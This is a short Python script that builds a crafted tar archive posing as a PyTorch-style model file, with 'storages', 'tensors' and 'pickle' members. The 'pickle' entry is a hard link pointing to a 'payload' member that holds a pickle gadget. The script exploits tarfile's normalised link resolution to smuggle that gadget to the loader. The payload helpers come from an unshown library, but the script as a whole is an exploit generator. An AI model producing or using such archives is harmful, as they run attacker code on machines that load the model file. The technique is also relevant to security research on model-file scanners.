# 'pickle' is a HARD link whose linkname is './payload': tarfile resolves hard links with
# os.path.normpath (TarFile._find_link_target -> _getmember(normalize=True)), so it reads member 'payload'.
import sys; import os; sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); from tarlib import *
out = sys.argv[1]; h = len(sys.argv) > 2
f = member(b'storages', STORAGES0) + member(b'tensors', TENSORS0) + member_gadget(b"payload", payload(h)) \
    + hdr(b'pickle', 0, b'1', b'./payload') + end()
open(out, 'wb').write(f)
